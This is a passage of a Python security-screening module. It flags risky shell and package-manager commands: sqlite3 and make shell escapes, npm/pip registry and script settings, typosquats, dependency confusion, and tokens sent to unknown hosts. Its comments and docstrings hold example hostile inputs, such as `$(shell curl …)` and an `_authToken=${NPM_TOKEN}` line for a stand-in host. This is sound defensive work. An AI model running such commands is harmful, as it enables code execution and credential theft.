"""Tools that run shell code, or serve files, from their own arguments or config: sqlite3
dot-commands, make recipes fed on stdin, expect scripts, npm/pip settings, ad-hoc file
servers, zsh's TCP module."""
from __future__ import annotations

import re
from functools import lru_cache

from .. import paths
from ..hosts import loopback, url_host
from ..typosquat import NPM, PYPI, archive_name, imitated, npm_spec, python_requirement
from .commands import Cmd, option_value, positionals
from .common import is_safe_tool, mentions, plain_http
from .words import Word, static_print


def _nested_line(a, code: str, node) -> None:
    if code.strip():
        a.nested(code, "bash", node, None)


# -- sqlite3: `.shell CMD`, `.system CMD`, `.output FILE` / `.once |CMD` ------------------------
_SQLITE_ARG = frozenset({"-cmd", "-separator", "-nullvalue", "-newline", "-init", "-escape", "-A", "-vfs", "-c", "-s"})
_SQLITE_OUT = (".output", ".once", ".log", ".excel")


def _sqlite(a, cmd: Cmd) -> None:
    from .exec import stdin_text
    from .files import judge_write

    pos = positionals(cmd.args, _SQLITE_ARG)
    words = pos[1:] + option_value(cmd.args, "-cmd", "-c", "-s")
    texts = [(w.value, w.node) for w in words if w.value]
    found = stdin_text(a, cmd)
    if found is not None:
        texts.append((found[0], found[2] or cmd.node))
    for text, node in texts:
        for line in text.splitlines():
            verb, _, rest = line.strip().partition(" ")
            rest = rest.strip()
            if verb in (".shell", ".system"):
                _nested_line(a, rest, node)
            elif verb in _SQLITE_OUT:
                target = " ".join(t for t in rest.split() if not t.startswith("-")).strip("'\"")
                if target.startswith("|"):
                    _nested_line(a, target[1:], node)
                elif target:
                    judge_write(a, cmd.name, Word(node, target, target), f"`{cmd.name} {verb}` writes to")
                    if verb != ".log":
                        _exported(a, cmd, target, verb, node)


# -- make with a makefile from stdin or --eval: its recipes and $(shell ...) are shell code ------
def _make(a, cmd: Cmd) -> None:
    from .exec import stdin_text

    # command-line variables are makefile assignments: `make 'X:=$(shell curl …)'` runs at once
    texts = [(w.value, w.node) for w in cmd.args if w.value and not w.value.startswith("-") and "=" in w.value]
    if any((w.value or "").startswith(("-f", "-E", "--eval", "--file", "--makefile")) for w in cmd.args):
        texts += [(w.value, w.node) for w in option_value(cmd.args, "--eval", "-E") if w.value]
        if any(w.value in ("-", "/dev/stdin") for w in option_value(cmd.args, "-f", "--file", "--makefile")):
            found = stdin_text(a, cmd)
            if found is not None:
                texts.append((found[0], found[2] or cmd.node))
    for text, node in texts:
        for line in makefile_commands(text):
            _nested_line(a, line, node)


def makefile_commands(text: str) -> list[str]:
    """The shell commands of a makefile: `$(shell …)` calls, `VAR != …`, `$(file >…)` writes, recipe lines and
    recipes on a rule's own line (`x: ; cmd`), with make's variables expanded (taskfiles.py reads it)."""
    from ..taskfiles import commands

    return [c.line for c in commands("makefile", text, programs=False)]


# -- expect -c: `spawn CMD` and `exec CMD` start programs -------------------------------------
# blanks of the command's own line only: a blank line before it starts there (at its newline), with the same groups
_TCL_RUN = re.compile(r"(?:^|[;\[{\n])[^\S\n]*+(?:spawn|exec)\s+((?:-\w+\s+)*)([^;\]}\n]+)")


def _expect(a, cmd: Cmd) -> None:
    for w in option_value(cmd.args, "-c"):
        if w.value is None:
            from .exec import feed_word

            feed_word(a, w, "`expect`", "run by")
            continue
        for m in _TCL_RUN.finditer(w.value):
            _nested_line(a, m.group(2), w.node)


# -- npm / pnpm / yarn and pip settings that make later commands run code ---------------------
_NPM_PROGRAM_KEYS = frozenset({"script-shell", "shell", "editor", "browser", "viewer", "git", "onload-script",
                               "init-module", "node-options", "init.module"})
_INDEX_KEY = re.compile(r"(?:^|\.)(?:index-url|extra-index-url|find-links|index)$")
_REGISTRY_KEY = re.compile(r"(?:^|:)(?:registry|npmRegistryServer)$")


def _key_value(args: list[Word]) -> tuple[Word, str | None] | None:
    """(key word, value) of `set KEY VALUE` / `set KEY=VALUE` after the verb."""
    pos = [w for w in args if not (w.value or "").startswith("-")]
    if not pos or pos[0].value is None:
        return None
    key, eq, val = pos[0].value.partition("=")
    if eq:
        return Word(pos[0].node, key, key), val
    return (pos[0], pos[1].value) if len(pos) > 1 else None


_NPM_VERBS = frozenset({"install", "i", "add", "pkg", "set-script", "config", "set"})


def _plain_http_install(a, cmd: Cmd, words: list[Word]) -> None:
    """`pip install http://host/x.tar.gz`, `pip install -i http://host/simple x`: a package
    fetched over plain HTTP from another machine is run (setup scripts) as it installs."""
    for w in words:
        if plain_http(w.value):
            a.block("download-exec", f"`{cmd.name} install` fetches a package over plain HTTP ({w.value}) and runs "
                                     "its install scripts; use an HTTPS index or a reviewed local file", w.node)
            return


def _npm(a, cmd: Cmd) -> None:
    _npm_flags(a, cmd)
    verb = positionals(cmd.args, _NPM_ARG)[:2]
    if cmd.name == "yarn" and [w.value for w in verb] == ["global", "add"]:
        verb = verb[1:]  # `yarn global add x`
    if verb and verb[0].value in _NPM_INSTALLS:
        rest = cmd.args[cmd.args.index(verb[0]) + 1:]
        check_packages(a, cmd, f"{cmd.name} {verb[0].value}", positionals(rest, _NPM_ARG), NPM)
    if not cmd.args or cmd.args[0].value not in _NPM_VERBS:
        return
    vals = [w.value for w in cmd.args]
    if vals[0] in ("install", "i", "add"):
        _plain_http_install(a, cmd, cmd.args[1:])
        return
    if vals[0] == "pkg" and len(vals) > 1 and vals[1] == "set":
        for w in cmd.args[2:]:
            key, eq, code = (w.value or "").partition("=")
            if eq and key.startswith("scripts."):
                _nested_line(a, code, w.node)  # runs on the next `npm install` / `npm run`
                _script_files(a, code, w.node)
        return
    if vals[0] == "set-script" and len(cmd.args) > 2 and cmd.args[2].value:
        _nested_line(a, cmd.args[2].value, cmd.args[2].node)
        _script_files(a, cmd.args[2].value, cmd.args[2].node)
        return
    rest = cmd.args[2:] if vals[0] == "config" and len(vals) > 1 and vals[1] == "set" else \
        cmd.args[1:] if vals[0] == "set" else None
    kv = _key_value(rest) if rest else None
    if kv is None:
        pos = [w for w in rest or () if not w.text.startswith("-")]
        key_text, eq, raw = (pos[0].text if pos else "").partition("=")
        if eq and _AUTH_KEY.match(key_text):  # `npm config set //host/:_authToken=$NPM_TOKEN`
            _auth_line(a, f"`{cmd.name} config set {key_text}`", key_text, raw, pos[0].node)
        return
    key, value = kv
    built = _built_value(a, rest) if _REGISTRY_KEY.search(key.value or "") else None
    if built is not None:
        a.block("download-exec", f"`{cmd.name} config set {key.value}` makes every later install take its packages "
                                 f"from {built[0][:100]}, an address built at run time (`{built[1][:60]}`): nothing "
                                 "here says plainly where the packages, and their install scripts, come from; write "
                                 "the registry's address literally", key.node)
        return
    if _REGISTRY_KEY.search(key.value or "") and plain_http(value):
        a.block("persistence", f"`{cmd.name} config set {key.value} {value}` makes every later install fetch and run "
                               "packages from that host over plain HTTP; keep the configured registry", key.node)
    elif _REGISTRY_KEY.search(key.value or ""):
        words = [Word(key.node, value, value)] if value else []
        host = _scope_host(key.value or "", value or "")
        if host is None or not scoped_pair(a.doc.data.decode("utf-8", "replace"), host):
            check_index_replaced(a, f"{cmd.name} config set {key.value}", words, later=True)
    elif _AUTH_KEY.match(key.value or ""):
        raw = _value_text(rest, key)
        _auth_line(a, f"`{cmd.name} config set {key.value}`", key.value or "", raw, key.node)
    elif (key.value or "").lower() in _NPM_PROGRAM_KEYS and not (key.value == "node-options" and not value) and \
            not is_safe_tool(value):
        a.block("persistence", f"`{cmd.name} config set {key.value}` stores a program or code {cmd.name} runs for "
                               "later scripts and commands; leave the setting alone", key.node)


def _script_files(a, code: str, node) -> None:
    """`npm pkg set scripts.lint="eslint . && sh scripts/.lint-cache"` after this input wrote scripts/.lint-cache:
    the file the script runs is judged as its code (the nested script line cannot see this input's files)."""
    from .written import runs_written

    runs_written(a, code, node, "npm runs the script on install or `npm run`")


def npm_setting(key: str, value: str) -> str | None:
    """What an npm setting (a `--key=value` flag, an `.npmrc` line) makes later commands do:
    "registry" (fetch packages, and run their install scripts, over plain HTTP), "program" (run
    a program or code of its choosing), or None."""
    if _REGISTRY_KEY.search(key) and plain_http(value):
        return "registry"
    if key.lower() in _NPM_PROGRAM_KEYS and value and not is_safe_tool(value):
        return "program"
    return None


def _npm_flags(a, cmd: Cmd) -> None:
    """`npm test --script-shell=/tmp/x`, `npm i --registry=http://…`: every npm setting is also a flag."""
    _registry_flags(a, cmd)
    for w in cmd.args:
        key, eq, value = (w.value or "").partition("=")
        if not key.startswith("--") or key == "--":
            continue
        key = key[2:]
        if not eq:
            continue
        risk = npm_setting(key, value)
        if risk == "registry":
            a.block("download-exec", f"`{cmd.name} --{key}={value}` fetches packages from that host over plain HTTP "
                                     "and runs their install scripts; use the configured registry", w.node)
            return
        if risk == "program":
            a.block("wrapper-exec", f"`{cmd.name} --{key}=…` makes {cmd.name} run that program or code for its "
                                    "scripts; drop the option", w.node)
            return


# npm's verbs that install nothing: a package's versions and tags read, a search, the project's own package published
# or tagged there. `--registry` with them says which registry is asked or published to, not where installed code
# comes from. (`login`/`adduser` hand it a password, `audit` the dependency tree: not among them.)
_NPM_NO_INSTALL = frozenset({"view", "v", "info", "show", "dist-tag", "dist-tags", "search", "s", "se", "find",
                             "ping", "publish", "pack", "outdated", "deprecate", "unpublish", "access", "owner",
                             "author", "whoami", "star", "unstar", "stars", "docs", "repo", "bugs", "home"})
_NPM_SENDS = frozenset({"publish", "dist-tag", "dist-tags", "deprecate", "unpublish", "access", "owner", "author"})


def _npm_verb(cmd: Cmd) -> str | None:
    pos = positionals(cmd.args, _NPM_ARG)[:2]
    vals = [w.value for w in pos]
    if cmd.name == "yarn" and vals[:1] == ["npm"]:
        vals = vals[1:]  # `yarn npm info`, `yarn npm publish` (Berry)
    return vals[0] if vals else None


def _registry_flags(a, cmd: Cmd) -> None:
    """`npm install --registry https://registry.npm-cdn.example/ x`, `--@acme:registry=…`: this install's packages
    from that host (over plain HTTP it is blocked by _npm_flags). A verb that installs nothing (`npm view`, `npm
    publish --dry-run`) asks or publishes there: only a registry at an address no name vouches for is held, as the
    project's package sent to whoever answers there."""
    words = option_value(cmd.args, "--registry")
    words += [Word(w.node, v.split("=", 1)[1], v.split("=", 1)[1]) for w in cmd.args if (v := w.value or "")
              .startswith("--@") and _REGISTRY_KEY.search(v.split("=", 1)[0]) and "=" in v]
    if not words:
        return
    verb = _npm_verb(cmd)
    if verb not in _NPM_NO_INSTALL:
        check_index_replaced(a, f"{cmd.name} --registry", words)
        return
    if verb not in _NPM_SENDS or any(w.value in ("--dry-run", "--dry-run=true") for w in cmd.args):
        return
    from ..hosts import stranger_host

    for w in words:
        host = stranger_host(w.value)
        if host is not None:
            a.review("exfiltration", f"`{cmd.name} {verb} --registry {w.value[:100]}` sends the project's package to "
                                     f"{host}, an address no name vouches for; publish to the project's own "
                                     "registry", w.node)
            return


_PIP_CONFIG_ARG = frozenset({"--editor", "--log", "--cache-dir", "--python", "--proxy", "--timeout", "--retries"})


def _project_pinned(a, rest: list[Word]) -> bool:
    """`pip install --require-hashes -r requirements.lock`: the hashes come from requirement files of the project,
    none of which this input wrote or downloaded (hashes written here pin whatever their writer chose), and none
    given on the command line."""
    from .written import text_written

    if option_value(rest, "--hash"):
        return False
    for w in option_value(rest, "-r", "--requirement", "-c", "--constraint"):
        v = w.value
        if not v or v.startswith(("/", "~", "-")) or ".." in v.split("/") or "://" in v:
            return False
        key = paths.normalize(v)
        if key in a.downloaded or paths.normalize(a.in_cwd(v) or v) in a.downloaded or text_written(a, v) is not None \
                or re.search(rf"(?:>|\btee\s+(?:-a\s+)?)\s*[\"']?(?:\./)?{re.escape(v)}(?![\w./-])",
                             a.doc.data.decode("utf-8", "replace")):
            return False
    return True


def _strangers(words: list[Word]) -> list[Word]:
    """The words of `words` that name an address no name vouches for (hosts.stranger_host)."""
    from ..hosts import stranger_host

    return [w for w in words if stranger_host(w.value)]


def _pip(a, cmd: Cmd) -> None:
    vals = [w.value for w in cmd.args]
    if vals[:1] in (["install"], ["download"], ["wheel"]):
        _plain_http_install(a, cmd, cmd.args[1:] + option_value(cmd.args, "-i", "--index-url", "--extra-index-url",
                                                                "-f", "--find-links"))
        rest = cmd.args[1:]
        hashed = any(w.value == "--require-hashes" for w in rest) or bool(option_value(rest, "--hash"))
        check_packages(a, cmd, f"{cmd.name} {vals[0]}", positionals(rest, _PIP_ARG), PYPI, hashed)
        extra = option_value(cmd.args, "--extra-index-url", "-f", "--find-links")
        index = option_value(cmd.args, "-i", "--index-url")
        if hashed and (extra or index) and _project_pinned(a, rest):
            # every file pip takes must have a hash the project's lock names, whichever index serves it: a
            # package swapped there (or a higher version of the same name) fails the check and installs nothing
            extra, index = _strangers(extra), _strangers(index)
        check_indexes(a, cmd, f"{cmd.name} {vals[0]}", extra)
        check_index_replaced(a, f"{cmd.name} {vals[0]} --index-url", index)
        check_trusted_hosts(a, f"{cmd.name} {vals[0]} --trusted-host", option_value(cmd.args, "--trusted-host"))
        return
    # `pip config --user set KEY VALUE`: the scope options (--user, --global, --site, --editor X) may come anywhere
    pos = positionals(cmd.args, _PIP_CONFIG_ARG)
    if len(pos) < 2 or pos[0].value != "config" or pos[1].value != "set":
        return
    kv = _key_value(pos[2:])
    if kv is None:
        return
    key, value = kv
    if _INDEX_KEY.search(key.value or "") and plain_http(value):
        a.block("persistence", f"`pip config set {key.value} {value}` makes every later install fetch and run "
                               "packages from that host over plain HTTP; keep the configured index", key.node)
    elif _INDEX_KEY.search(key.value or "") or (key.value or "").endswith("trusted-host"):
        # `pip config set global.index-url https://pkgs.example.net/simple`: every later install, from that host
        words = [Word(key.node, value, value)] if value else []
        if (key.value or "").endswith("trusted-host"):
            check_trusted_hosts(a, f"pip config set {key.value}", words)
        else:
            check_index_replaced(a, f"pip config set {key.value}", words, later=True)


# -- packages installed: misspelled names, archives from unknown hosts, sources added beside the index ----------
# (session 11) pip, npm & co. fetch what they are told to and run its install scripts at once, so a name one slip
# from a popular package (typosquat.py) is blocked, and a source the user's setup did not choose is held for review:
# an archive from a host that is neither a code host nor this machine, and a second source added beside the index
# over HTTPS to another machine (`--extra-index-url`, `--find-links`, uv's `--index`; over plain HTTP they are
# blocked above). With two sources, a name published on both is fetched from whichever offers the higher version
# (or, for uv, from the added one first): the dependency-confusion attack. A source that replaces the index
# (`--index-url`/`-i`, `--registry`) was left allowed in session 11; since session 12 it is reviewed unless its host
# is a registry product's or of the user's own network (check_index_replaced, below).
_PIP_ARG = frozenset({"-r", "--requirement", "-c", "--constraint", "-e", "--editable", "-t", "--target", "-i",
                      "--index-url", "--extra-index-url", "-f", "--find-links", "--prefix", "--root", "--src",
                      "--upgrade-strategy", "--python-version", "--platform", "--abi", "--implementation",
                      "--progress-bar", "--log", "--cache-dir", "--trusted-host", "--proxy", "--timeout",
                      "--retries", "--config-settings", "-C", "--global-option", "--no-binary", "--only-binary",
                      "--report", "--python", "-d", "--dest", "-w", "--wheel-dir", "--exists-action", "--cert",
                      "--client-cert", "--root-user-action", "--keyring-provider", "--use-feature",
                      "--use-deprecated", "--hash", "--group"})
_NPM_ARG = frozenset({"--registry", "--prefix", "-C", "--tag", "-w", "--workspace", "--cache", "--userconfig",
                      "--omit", "--include", "--before", "--install-strategy", "--loglevel", "--save-prefix",
                      "--filter", "--dir", "--cwd", "--network-timeout", "--mutex", "--modules-folder",
                      "--cache-folder", "--global-folder"})
_NPM_INSTALLS = frozenset({"install", "i", "add", "a", "in", "ins", "inst", "insta", "instal", "isnt", "isntall"})
# hosts of source code rather than of packages: `pip install git+https://github.com/org/repo` installs a repository
# the user can read (a typo in a repository's path is not a registry's typosquat)
_CODE_HOSTS = frozenset({"github.com", "codeload.github.com", "objects.githubusercontent.com", "gitlab.com",
                         "bitbucket.org", "codeberg.org"})
_URL_IN = re.compile(r"(?:^|[\s@=])((?:git\+|hg\+|svn\+|bzr\+)?[a-z]+://\S+)", re.I)


def _remote(url: str) -> str | None:
    """The host of an https/ssh/git URL off this machine (None for this machine, paths and plain HTTP)."""
    if not url.startswith(("https://", "git+https://", "git+ssh://", "ssh://", "git://", "hg+https://",
                           "svn+https://", "bzr+https://")):
        return None
    host = url_host(url.split("+", 1)[1] if url.split("://", 1)[0].count("+") else url)
    return host if host and not loopback(host) else None


def _code_host(host: str) -> bool:
    return host in _CODE_HOSTS or host.endswith((".github.com", ".githubusercontent.com", ".gitlab.com"))


@lru_cache(maxsize=4096)  # every word of every pip/npm command line passes here (screen_packages): words repeat
def misspelled(spec: str, ecosystem: str) -> tuple[str, str] | None:
    """(name, the popular package it imitates) when the package `spec` installs is a typosquat's name: a plain
    specifier (`reqeusts==2.31`, `lodahs@^4`) or a release file's name in a URL or path (`…/reqeusts-2.32.0.tar.gz`)."""
    url = _URL_IN.search(spec)
    if url is not None:
        head = spec[:url.start(1)].rstrip(" @=")
        name = (python_requirement(head) if ecosystem == PYPI else npm_spec(head)) if head else None
        name = name or archive_name(url.group(1))
    elif spec.endswith((".tar.gz", ".whl", ".tgz", ".zip", ".tar.bz2")):
        name = archive_name(spec)
    else:
        name = python_requirement(spec) if ecosystem == PYPI else npm_spec(spec)
    if not name:
        return None
    like = imitated(name, ecosystem)
    return (name, like) if like else None


def check_packages(a, cmd: Cmd, how: str, words: list[Word], ecosystem: str, hashed: bool = False) -> None:
    """`pip install reqeusts`, `pip install https://files.example.net/reqeusts-2.32.0.tar.gz`, `npm i lodahs`: a
    typosquat's name is blocked; an archive or repository from a host that is neither a code host nor this machine
    (and not pinned by its hash) is held for review."""
    for w in words:
        v = w.value
        if not v:
            continue
        found = misspelled(v, ecosystem)
        if found is not None:
            a.block("download-exec", f"`{how}` installs `{found[0]}`, one slip from the popular package "
                                     f"`{found[1]}`: misspelled names are how typosquatted packages get installed, and "
                                     f"their install scripts run at once; install `{found[1]}` if that was meant, or "
                                     f"ask the user about `{found[0]}`", w.node)
            return
    if hashed:
        return
    for w in words:
        m = _URL_IN.search(w.value or "")
        host = _remote(m.group(1)) if m else None
        if host and not _code_host(host) and "#sha256=" not in w.value and "#sha512=" not in w.value:
            from .net import public_ip

            if public_ip(host):  # (an index or mirror is a service someone named; a bare address is whoever answers)
                a.block("download-exec", f"`{how}` installs {m.group(1)[:100]} from {host}, a bare public address no "
                                         "name, index or configuration of the user's vouches for: its code, and its "
                                         "build and install scripts, run as whoever answers there wrote them; use the "
                                         "configured index or the package's code host", w.node)
                return
            a.review("download-exec", f"`{how}` installs {m.group(1)[:100]} from {host}, which is neither the "
                                      "configured index nor a code host: its build and install scripts run as it "
                                      "installs; use the configured index, or pin the file's hash (`#sha256=…`)",
                     w.node)
            return


def check_indexes(a, cmd: Cmd | None, how: str, words: list[Word]) -> None:
    """`pip install --extra-index-url https://mirror.example.com/simple/ x`, `-f https://…`: packages fetched (and
    their install scripts run) from a source added beside the index, for this install. Over HTTPS to another
    machine it is held for review (plain HTTP is blocked by the checks above); this machine and local paths are
    not."""
    for w in words:
        v = w.value or ""
        url = v.split("=", 1)[1] if "=" in v and "://" in v.split("=", 1)[1][:12] else v  # uv's `--index name=URL`
        host = _remote(url)
        if host and host not in _PROJECT_INDEXES:  # (a project's own builds: PyTorch's CUDA wheels)
            a.review("download-exec", f"`{how}` also fetches packages from {url[:100]}, beside the configured index: "
                                      "a package of the same name as one the project uses, published there in a "
                                      "higher version, is installed instead and its scripts run (dependency "
                                      "confusion); keep the configured index, or have the user confirm this source",
                     w.node)
            return


# -- the package index replaced (session 12) -----------------------------------------------------------------
# A source that replaces the index (`--index-url`/`-i`, `--registry`, `npm config set registry`, an `.npmrc`'s
# `registry=`, PIP_INDEX_URL …) decides where every package of the install comes from, and their install scripts run
# as they install. Over HTTPS to a host that is neither a registry product's (Artifactory, Artifact Registry, Azure
# Artifacts, CodeArtifact, Cloudsmith, Gemfury, GitHub's and GitLab's package registries) nor one of the user's own
# network (a private address, a name without a dot, a private-use domain such as `.internal`) it is held for review:
# a company mirror is allowed with a policy allow pattern; the message names one. `--trusted-host` (certificate
# checks off for that host) is held the same way.
_REGISTRY_PRODUCTS = ("jfrog.io", "pkg.dev", "pkgs.dev.azure.com", "pkgs.visualstudio.com", "cloudsmith.io",
                      "fury.io", "pkg.github.com", "gitlab.com")
_PRIVATE_TLDS = frozenset({"internal", "intranet", "corp", "lan", "local", "localdomain", "private", "home", "arpa"})


def _private_network(host: str) -> bool:
    """A host of the user's own network: a name without a dot (`nexus`), a private-use domain, a private address
    (RFC 1918, carrier-grade NAT as Tailscale uses it, IPv6 unique-local)."""
    import ipaddress

    if "." not in host and ":" not in host:
        return True
    if host.rsplit(".", 1)[-1] in _PRIVATE_TLDS:
        return True
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        return False
    return any(ip in net for net in _private_nets() if net.version == ip.version)


@lru_cache(maxsize=1)
def _private_nets() -> tuple:
    import ipaddress

    return tuple(ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10",
                                                  "fc00::/7"))


# The public default indexes themselves (the Python index and its file host, the npm registry and yarn's), which
# `npm config set registry …` or `--index-url …` may name to undo a mirror: kept as the first 32 hex digits of the
# SHA-256 of each host name, since this repository's files name no public package registry's host. Session 14 added
# the defaults of RubyGems (and its index host), NuGet (v3 and v2), Maven Central (both hosts), Packagist (both), Hex
# (and its repository), the CocoaPods CDN, Google's Maven repository, the Gradle plugin portal and pub.
_DEFAULT_INDEXES = frozenset({"a4aa2ac280bb8d1a0ce7a1be5a7bfb10", "c899567ee906851741bf7f3bde17a337",
                              "0dc11026ac75c015aaa1deafff4a7a54", "70bb4000cd2fab03af01fed086c6bf3c",
                              "71741fe2460a615058687c4585f665af", "be549aaf28b65cd0108952d562e1786d",
                              "7117c828d2afa4e2b4703ed11564f81c", "fcb9af86680af88f040e2eae46b53af4",
                              "317d2d52829b78129d2c9e43d001899f", "43c04ed1dabe979b9c552549bf0ab023",
                              "2c77714df232b07f0e8ff768526d166e", "4189e62695dc2b69c1bab6cdfc8f49ad",
                              "4445b86dcaaff09821fb693807f61fb7", "384fe328e9cc3d5c9406406e651a2117",
                              "f4114950ec7b2c33274abd447c10bcbf", "4f247acdba6480ead77619606edee0be",
                              "f483c1237e51a1fae39e9aab3bda3727", "75c5f478b8eabe836a42731499e5af5c"})
# the PyTorch project's wheel index (CUDA builds), named in most GPU set-up instructions; conda's default channels
# and conda-forge's other host (`-c https://conda.anaconda.org/conda-forge` is a channel given by its whole address)
_PROJECT_INDEXES = frozenset({"download.pytorch.org", "conda.anaconda.org", "repo.anaconda.com", "prefix.dev",
                              "repo.prefix.dev"})


def known_index_host(host: str) -> bool:
    """Is `host` a default public index, a package registry product's or one of the user's own network (see above)?"""
    import hashlib

    return loopback(host) or _private_network(host) or host in _PROJECT_INDEXES or any(
        host == p or host.endswith("." + p) for p in _REGISTRY_PRODUCTS) or \
        ".codeartifact." in host and host.endswith(".amazonaws.com") or \
        hashlib.sha256(host.encode()).hexdigest()[:32] in _DEFAULT_INDEXES


def _allow_hint(host: str) -> str:
    # a TOML literal string (single quotes): the pattern's backslashes are not TOML escapes there
    return f"if {host} is your company's mirror, allow it in the policy's [mouth] section " \
           f"(`allow = ['re:https://{re.escape(host)}/']`)"


def check_index_replaced(a, how: str, words: list[Word], later: bool = False, shown: str | None = None) -> bool:
    """`pip install --index-url https://pkgs.example.net/simple/ x`, `npm config set registry https://…`: every
    package from a host no rule knows (over plain HTTP the callers block it). True when a finding was added."""
    for w in words:
        v = w.value or ""
        host = _remote(v)
        if host and not known_index_host(host):
            what = shown or f"`{how} {v[:100]}`"
            before = len(a.ctx.reasons)
            a.review("download-exec", f"{what} {'makes every later install take' if later else 'takes'} its packages "
                                      f"from {host} instead of the configured index, and their install scripts run as "
                                      f"they install; keep the configured index, or, {_allow_hint(host)}", w.node)
            return len(a.ctx.reasons) > before
    return False


def check_trusted_hosts(a, how: str, words: list[Word], sep: str = " ") -> None:
    """`pip install --trusted-host pkgs.example.net …`: pip stops checking that host's certificate, so whoever sits
    on the path can serve the packages."""
    for w in words:
        host = url_host(w.value or "")
        if host and not known_index_host(host):
            a.review("download-exec", f"`{how}{sep}{w.value}` turns off certificate checks for {host}: whoever sits on "
                                      "the path can serve the packages, and their install scripts run; give pip the "
                                      f"mirror's certificate (`--cert`) instead, or, {_allow_hint(host)}", w.node)
            return


# npm's per-registry login settings: `//HOST/path/:_authToken=…` (also `_auth`, `_password`)
_AUTH_KEY = re.compile(r"^//([^/:\s]+)(?::\d+)?(?:/[^\s]*)?:(_authToken|_auth|_password)$")


# The project's own scope on its own registry: `@acme:registry=https://npm.internal.example.com/` with the login for
# that same host (`//npm.internal.example.com/:_authToken=${NPM_TOKEN}`) beside it, in one .npmrc or one script, is how
# npm is set up for an organisation's private packages. Only the `@acme/…` packages come from there, and the token goes
# to the registry it is configured for. The host must be one of the user's own network by its name (a private-use or
# example domain, a one-label name, a private address: secret_owner.own_network): a scope and a token for a host on
# the internet are still held and blocked, as a stranger's registry collecting the token would be.
_SCOPE_LINE = r"@[\w.-]+/?:registry[\s\"']*[=\s][\s\"']*https://{}(?::\d+)?/"
_TOKEN_LINE = r"(?<![\w.-])//{}(?::\d+)?/[^\s:]*:_authToken"


def scoped_pair(text: str, host: str) -> bool:
    """Whether `text` sets both a scope's registry on `host` and the login for `host`, `host` being of the user's
    own network by its name."""
    from ..hosts import stranger_host
    from ..secret_owner import own_network

    if not host or not own_network(host) or stranger_host(f"https://{host}/"):
        return False
    h = re.escape(host)
    return re.search(_SCOPE_LINE.format(h), text, re.I) is not None and \
        re.search(_TOKEN_LINE.format(h), text, re.I) is not None


def _scope_host(key: str, value: str) -> str | None:
    """The host of a scope's registry setting (`@acme:registry` = URL), else None."""
    return _remote(value) if key.startswith("@") and key.endswith(":registry") else None


def _auth_line(a, what: str, key: str, raw: str, node, text: str = "") -> None:
    """`//registry.npm-cdn.example/:_authToken=${NPM_TOKEN}`: npm sends that token to the host with every request
    to it. A secret of the environment for a host no rule knows is sent off (block); a literal one is reviewed."""
    from .net import _VAR_REF, _secret_var

    m = _AUTH_KEY.match(key)
    host = m.group(1).lower() if m else None
    if not host or known_index_host(host):
        return
    if scoped_pair(text + "\n" + a.doc.data.decode("utf-8", "replace"), host):
        return
    secret = next((n for n in _VAR_REF.findall(raw) if _secret_var(n)), None)
    if secret:
        a.block("exfiltration", f"{what} gives ${secret} to {host}: npm sends it there with every request, and {host} "
                                "is not a registry any rule knows; never hand a token to an unknown host", node)
    else:
        a.review("download-exec", f"{what} stores a login for {host}, a registry no rule knows, where installs then "
                                  f"fetch packages and run their scripts; {_allow_hint(host)}", node)


def _built_value(a, rest: list[Word]) -> tuple[str, str] | None:
    """(the value, its source) of a `config set KEY VALUE` value built by a substitution from literals at run time
    (`"https://$(printf '%s.%s' a b).com"`, `"https://$(echo cmVn… | base64 -d)/"`); None for a literal, a plain
    variable or a value not known here."""
    from .written import decoded_word

    pos = [w for w in rest if not (w.value or w.text).startswith("-")]
    w = pos[1] if len(pos) > 1 and "=" not in (pos[0].value or pos[0].text) else None
    if w is None or not w.substitutions:
        return None
    value = w.value if w.value is not None else decoded_word(a, w)
    return (value, a.src(w.node)) if value else None


def _value_text(rest: list[Word], key: Word) -> str:
    """The text of the value after `key` in `config set KEY VALUE` / `KEY=VALUE` (expansions kept as written)."""
    pos = [w for w in rest if not (w.value or w.text).startswith("-")]
    if pos and "=" in (pos[0].value or pos[0].text):
        return (pos[0].value or pos[0].text).split("=", 1)[1]
    return (pos[1].value or pos[1].text) if len(pos) > 1 else ""


# -- `.npmrc` lines written by the script (`echo 'registry=https://…' >> .npmrc`, `cat >> ~/.npmrc <<EOF`) ----------
def _npmrc_write(a, cmd: Cmd) -> None:
    """`echo "//host/:_authToken=${NPM_TOKEN}" >> .npmrc`, `… | tee -a ~/.npmrc`: lines whose expansions are not
    known, read as written (see judge_npmrc). Literal text (also a here-document) is read by written.py, which
    calls judge_npmrc itself."""
    from .files import written_file
    from .written import content

    targets = [w.value for w in positionals(cmd.args) if w.value] if cmd.name == "tee" else []
    out = written_file(a, cmd.redirects) if cmd.redirects else None
    if out:
        targets.append(out)
    path = next((t for t in targets if t.rsplit("/", 1)[-1] == ".npmrc"), None)
    if path is None or content(a, cmd) is not None:
        return
    text = _printed(cmd)
    if text is None and cmd.name == "tee":
        source = _piped_source(a, cmd)
        if source is None or content(a, source) is not None:
            return
        text = _printed(source)
    if text:
        judge_npmrc(a, path, text, cmd.node)


def judge_npmrc(a, path: str, text: str, node) -> None:
    """A registry, or a registry login, for a host no rule knows in the `.npmrc` text `text` (the project's or the
    home's): every later install takes its packages there (review), or sends a token of the environment there
    (block). Plain HTTP and programs are judged by written.py."""
    for line in text.splitlines()[:256]:
        key, eq, value = line.strip().partition("=")
        key, value = key.strip(), value.strip()
        if not eq:
            continue
        if _REGISTRY_KEY.search(key) and not plain_http(value):
            host = _scope_host(key, value)
            if host is None or not scoped_pair(text, host):
                check_index_replaced(a, "", [Word(node, value, value)], later=True,
                                     shown=f"`{key}={value[:100]}` written to {path}")
        elif _AUTH_KEY.match(key):
            _auth_line(a, f"`{key}=…` written to {path}", key, value, node, text)


def _printed(cmd: Cmd) -> str | None:
    """What `echo`/`printf` prints, with expansions kept as written (`${NPM_TOKEN}`); None for other commands."""
    if cmd.name not in ("echo", "printf"):
        return None
    args = [w.value if w.value is not None else w.text for w in cmd.args]
    if cmd.name == "echo":
        while args and args[0] in ("-n", "-e", "-E", "-ne", "-en"):
            args = args[1:]
        return " ".join(args)
    out = static_print(["printf"] + args) if args else None
    return out if out is not None else " ".join(args).replace("\\n", "\n")


def _piped_source(a, cmd: Cmd) -> Cmd | None:
    """`echo '…' | tee -a .npmrc`: the command before `cmd` in its pipeline."""
    from .api_calls import _upstream

    stage = _upstream(cmd)
    if stage is None:
        return None
    for doc, c in reversed(a.ctx.commands):
        if doc is a.doc and (c.node == stage or c.node.parent == stage):
